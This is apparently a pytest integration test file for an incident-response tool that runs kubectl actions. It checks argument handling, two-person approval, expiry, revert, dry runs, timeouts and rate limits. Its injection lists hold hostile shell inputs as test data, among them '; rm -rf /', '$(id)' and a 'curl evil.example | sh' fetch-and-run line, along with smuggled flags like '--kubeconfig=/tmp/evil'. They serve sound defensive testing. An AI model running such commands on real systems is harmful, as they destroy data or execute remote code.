"""Actions on both databases: argv stays argv, approval, expiry, revert, timeout, limits."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from tests.integration.actions.conftest import ACTIONS_YAML, H, Kubectl, Open, apply_config, request
from warroom.actions.models import ActionRun
from warroom.clock import FakeClock
from warroom.db import Database
from warroom.engine.worker import Worker
from warroom.settings import Settings

INJECTIONS = ["; rm -rf /", "$(id)", "`id`", "a && curl evil.example | sh", "'\"quoted\"'", "*"]


def _run(client: TestClient, headers: H, run_id: int) -> dict[str, object]:
    answer = client.get(f"/api/v1/actions/runs/{run_id}", headers=headers)
    assert answer.status_code == 200
    return dict(answer.json())


def _kinds(client: TestClient, headers: H, number: int) -> list[str]:
    url = f"/api/v1/incidents/{number}/timeline?limit=500"
    return [e["kind"] for e in client.get(url, headers=headers).json()["items"]]


def test_injection_attempts_stay_one_literal_argument(
    kubectl: Kubectl, worker: Worker, client: TestClient, alice: H, open_incident: Open
) -> None:
    number = open_incident()
    runs = []
    for value in INJECTIONS:
        answer = request(client, alice, number, "annotate", text=value)
        assert answer.status_code == 202, answer.text
        runs.append(answer.json()["id"])
    assert kubectl.calls() == []  # nothing runs inside the request
    assert worker.run_once() >= len(INJECTIONS)
    assert sorted(kubectl.calls()) == sorted(["annotate", value] for value in INJECTIONS)
    assert {_run(client, alice, run)["state"] for run in runs} == {"succeeded"}


REFUSED = [
    ("annotate", {"text": "line one\nline two"}, "params.text"),
    ("annotate", {"text": "--kubeconfig=/tmp/evil"}, "params.text"),
    ("annotate", {"text": "nul\x00byte"}, "params.text"),
    ("pause-market", {"market": "EUR-USD --all-namespaces"}, "params.market"),
    ("pause-market", {"market": "-n kube-system"}, "params.market"),
    ("pause-market", {"market": "EUR-USD", "reason": "$(id)"}, "params.reason"),
    ("pause-market", {"market": "EUR-USD", "extra": "x"}, "params.extra"),
    ("pause-market", {}, "params.market"),
    ("replicas", {"count": "11"}, "params.count"),
    ("replicas", {"count": "3; reboot"}, "params.count"),
    ("nonexistent", {}, "action"),
]


def test_bad_parameters_are_refused_naming_the_field_and_nothing_is_written(
    kubectl: Kubectl, worker: Worker, client: TestClient, alice: H, open_incident: Open
) -> None:
    number = open_incident()
    for action, params, field in REFUSED:
        answer = request(client, alice, number, action, **params)
        assert answer.status_code in (404, 422), (action, params, answer.text)
        assert answer.json()["error"]["field"] == field, (action, params)
    assert client.get("/api/v1/actions/runs", headers=alice).json() == []
    assert "action:run:requested" not in _kinds(client, alice, number)
    worker.run_once()
    assert kubectl.calls() == []


def test_output_exit_code_and_hashes_are_evidence_on_the_timeline(
    kubectl: Kubectl, worker: Worker, client: TestClient, alice: H, open_incident: Open
) -> None:
    number = open_incident()
    ok = request(client, alice, number, "replicas", count="2").json()
    failing = request(client, alice, number, "failing").json()
    worker.run_once()
    # The worker runs the two jobs side by side: their order is not the test's business.
    assert sorted(kubectl.calls()) == [["fail"], ["scale", "--replicas=2", "deployment/publisher"]]
    done, failed = _run(client, alice, ok["id"]), _run(client, alice, failing["id"])
    assert (done["state"], done["exit_code"]) == ("succeeded", 0)
    assert (failed["state"], failed["exit_code"]) == ("failed", 3)
    evidence = client.get(f"/api/v1/incidents/{number}/evidence", headers=alice).json()
    by_id = {item["id"]: item for item in evidence}
    item = by_id[failed["evidence_id"]]
    content = client.get(
        f"/api/v1/incidents/{number}/evidence/{item['id']}/content", headers=alice
    ).content
    import hashlib

    assert item["sha256"] == hashlib.sha256(content).hexdigest()
    assert b"exit code: 3" in content and b"error: forbidden" in content
    assert failed["stderr_sha256"] == hashlib.sha256(b"error: forbidden\n").hexdigest()
    kinds = _kinds(client, alice, number)
    assert kinds.count("action:run:requested") == 2
    assert "action:run:succeeded" in kinds and "action:run:failed" in kinds
    assert kinds.count("evidence:item:added") == 2


def test_approval_is_two_person_and_waits(
    kubectl: Kubectl, worker: Worker, client: TestClient, alice: H, bob: H, open_incident: Open
) -> None:
    number = open_incident("SEV0")
    run = request(client, alice, number, "pause-market", market="EUR-USD").json()
    assert run["state"] == "awaiting_approval" and run["needs_approval"] is True
    worker.run_once()
    assert kubectl.calls() == []
    own = client.post(f"/api/v1/actions/runs/{run['id']}/approve", headers=alice)
    assert own.status_code == 403 and own.json()["error"]["field"] == "approver"
    approved = client.post(f"/api/v1/actions/runs/{run['id']}/approve", headers=bob)
    assert approved.status_code == 200 and approved.json()["approved_by"] == "bob@example.com"
    worker.run_once()
    assert kubectl.calls() == [["annotate", "market/EUR-USD", "paused=true", "--reason=incident"]]
    again = client.post(f"/api/v1/actions/runs/{run['id']}/approve", headers=bob)
    assert again.status_code == 409


def test_unapproved_request_lapses_on_the_clock(
    kubectl: Kubectl,
    worker: Worker,
    client: TestClient,
    alice: H,
    bob: H,
    open_incident: Open,
    clock: FakeClock,
) -> None:
    number = open_incident("SEV0")
    run = request(client, alice, number, "pause-market", market="EUR-USD").json()
    clock.advance(minutes=59)
    worker.run_once()
    assert _run(client, alice, run["id"])["state"] == "awaiting_approval"
    clock.advance(minutes=1)
    worker.run_once()
    assert _run(client, alice, run["id"])["state"] == "lapsed"
    late = client.post(f"/api/v1/actions/runs/{run['id']}/approve", headers=bob)
    assert late.status_code == 409
    worker.run_once()
    assert kubectl.calls() == []
    assert "action:run:lapsed" in _kinds(client, alice, number)


def test_revert_runs_the_undo_with_mapped_parameters(
    kubectl: Kubectl, worker: Worker, client: TestClient, alice: H, open_incident: Open
) -> None:
    number = open_incident()
    run = request(client, alice, number, "pause-market", market="BTC-USD").json()
    worker.run_once()
    active = client.get(f"/api/v1/incidents/{number}/actions?active=true", headers=alice).json()
    assert [r["id"] for r in active] == [run["id"]]
    undo = client.post(f"/api/v1/actions/runs/{run['id']}/revert", headers=alice)
    assert undo.status_code == 202, undo.text
    assert undo.json()["action"] == "unpause-market" and undo.json()["undo_of"] == run["id"]
    worker.run_once()
    assert kubectl.calls()[-1] == ["annotate", "market/BTC-USD", "paused=false"]
    original = _run(client, alice, run["id"])
    assert original["reverted_by_run"] == undo.json()["id"]
    assert client.get(f"/api/v1/incidents/{number}/actions?active=true", headers=alice).json() == []
    twice = client.post(f"/api/v1/actions/runs/{run['id']}/revert", headers=alice)
    assert twice.status_code == 409
    assert "action:run:reverted" in _kinds(client, alice, number)


def test_irreversible_run_cannot_be_reverted_and_warns(
    kubectl: Kubectl, worker: Worker, client: TestClient, alice: H, open_incident: Open
) -> None:
    number = open_incident()
    run = request(client, alice, number, "replicas", count="0").json()
    assert run["warning"] == "not reversible: there is no undo"
    worker.run_once()
    answer = client.post(f"/api/v1/actions/runs/{run['id']}/revert", headers=alice)
    assert answer.status_code == 409 and answer.json()["error"]["field"] == "run"


def test_dry_run_uses_the_variant_and_needs_no_approval(
    kubectl: Kubectl, worker: Worker, client: TestClient, alice: H, open_incident: Open
) -> None:
    number = open_incident("SEV0")
    run = request(client, alice, number, "pause-market", dry_run=True, market="EUR-USD").json()
    assert run["state"] == "queued"
    worker.run_once()
    assert kubectl.calls() == [
        ["annotate", "market/EUR-USD", "paused=true", "--reason=incident", "--dry-run=server"]
    ]
    preview = request(client, alice, number, "replicas", dry_run=True, count="1").json()
    assert preview["state"] == "previewed"
    assert preview["rendered"]["argv"] == [
        "kubectl",
        "scale",
        "--replicas=1",
        "deployment/publisher",
    ]
    worker.run_once()
    assert len(kubectl.calls()) == 1
    assert client.get(f"/api/v1/incidents/{number}/actions?active=true", headers=alice).json() == []


def test_timeout_kills_the_process(
    kubectl: Kubectl, worker: Worker, client: TestClient, alice: H, open_incident: Open
) -> None:
    number = open_incident()
    run = request(client, alice, number, "slow").json()
    worker.run_once()
    done = _run(client, alice, run["id"])
    assert done["state"] == "timed_out" and done["exit_code"] is None
    assert "timed out" in str(done["error"])
    pid = int(Path(f"{kubectl.log}.pid").read_text())
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)
    assert not Path(f"{kubectl.log}.finished").exists()


def test_limits_stop_a_runaway_loop(
    kubectl: Kubectl, worker: Worker, client: TestClient, alice: H, open_incident: Open
) -> None:
    first, second = open_incident(), open_incident()
    answers = [request(client, alice, first, "unpause-market", market="ETH-USD")]
    # Each market once: the same run twice in flight is refused before any limit counts.
    markets = ["ETH-USD", "BTC-USD", "SOL-USD", "ADA-USD"]
    answers += [request(client, alice, first, "pause-market", market=m) for m in markets]
    assert [a.status_code for a in answers[1:]] == [202, 202, 202, 409]
    assert answers[-1].json()["error"]["field"] == "action"
    assert "on this incident" in answers[-1].json()["error"]["message"]
    assert request(client, alice, second, "pause-market", market="ETH-USD").status_code == 202
    per_day = request(client, alice, second, "pause-market", market="BTC-USD")
    assert per_day.status_code == 409 and "24 hours" in per_day.json()["error"]["message"]
    worker.run_once()
    assert len(kubectl.calls()) == 5


def test_global_switch_off_refuses(
    kubectl: Kubectl,
    worker: Worker,
    client: TestClient,
    alice: H,
    open_incident: Open,
    settings: Settings,
) -> None:
    number = open_incident()
    queued = request(client, alice, number, "replicas", count="1").json()
    settings.actions = False
    refused = request(client, alice, number, "replicas", count="1")
    assert refused.status_code == 409 and "switched off" in refused.json()["error"]["message"]
    worker.run_once()
    assert kubectl.calls() == []
    assert _run(client, alice, queued["id"])["state"] == "refused"


def test_resolve_with_active_mitigations_needs_force(
    kubectl: Kubectl, worker: Worker, client: TestClient, alice: H, open_incident: Open
) -> None:
    number = open_incident()
    run = request(client, alice, number, "pause-market", market="EUR-USD").json()
    worker.run_once()
    refused = client.post(f"/api/v1/incidents/{number}/resolve", json={}, headers=alice)
    assert refused.status_code == 409 and refused.json()["error"]["field"] == "force"
    assert f"run {run['id']} pause-market" in refused.json()["error"]["message"]
    incident = client.get(f"/api/v1/incidents/{number}", headers=alice).json()
    assert incident["status"] != "resolved"
    forced = client.post(f"/api/v1/incidents/{number}/resolve", json={"force": True}, headers=alice)
    assert forced.status_code == 200 and forced.json()["status"] == "resolved"


def test_a_run_whose_worker_was_lost_is_interrupted_not_repeated(
    kubectl: Kubectl,
    worker: Worker,
    client: TestClient,
    alice: H,
    open_incident: Open,
    configured: Database,
) -> None:
    number = open_incident()
    run = request(client, alice, number, "replicas", count="1").json()
    with configured.session() as session:  # as if a worker marked it running, then died
        session.get(ActionRun, run["id"]).state = "running"  # type: ignore[union-attr]
    worker.run_once()
    assert kubectl.calls() == []
    done = _run(client, alice, run["id"])
    assert done["state"] == "interrupted" and "not repeated" in str(done["error"])
    assert "action:run:interrupted" in _kinds(client, alice, number)


def test_config_flag_off_refuses_and_irreversible_runs_warn_on_the_timeline(
    kubectl: Kubectl,
    worker: Worker,
    client: TestClient,
    alice: H,
    open_incident: Open,
    configured: Database,
    clock: FakeClock,
    tmp_path: Path,
) -> None:
    number = open_incident()
    run = request(client, alice, number, "replicas", count="1").json()
    url = f"/api/v1/incidents/{number}/timeline?limit=100"
    [requested] = [
        e for e in client.get(url, headers=alice).json()["items"]
        if e["kind"] == "action:run:requested"
    ]  # fmt: skip
    assert requested["payload"]["warning"] == "replicas is not reversible: there is no undo"
    assert requested["payload"]["argv"] == [
        "kubectl",
        "scale",
        "--replicas=1",
        "deployment/publisher",
    ]
    switched_off = ACTIONS_YAML.replace("  enabled: true", "  enabled: false")
    apply_config(configured, clock, tmp_path / "off", switched_off)
    refused = request(client, alice, number, "replicas", count="1")
    assert refused.status_code == 409 and refused.json()["error"]["field"] == "action"
    worker.run_once()
    assert kubectl.calls() == []
    assert _run(client, alice, run["id"])["state"] == "refused"


def test_evidence_cut_to_its_limit_says_so_and_keeps_stderr(
    kubectl: Kubectl,
    worker: Worker,
    settings: Settings,
    client: TestClient,
    alice: H,
    open_incident: Open,
) -> None:
    """Output within output_limit but over WARROOM_EVIDENCE_MAX_BYTES was cut at the limit
    without a word, stderr first (it comes last): the evidence now says what it kept."""
    settings.evidence_max_bytes = 650
    number = open_incident()
    run = request(client, alice, number, "annotate", text="y" * 200).json()
    worker.run_once()
    done = _run(client, alice, run["id"])
    assert done["state"] == "succeeded"
    url = f"/api/v1/incidents/{number}/evidence/{done['evidence_id']}/content"
    content = client.get(url, headers=alice).content
    assert len(content) <= 650
    assert b"cut to WARROOM_EVIDENCE_MAX_BYTES (650 bytes): stdout keeps " in content
    assert b"of 214 bytes, stderr 0 of 0" in content  # "done annotate " + 200 y's
    assert content.count(b"--- stderr ---") == 1
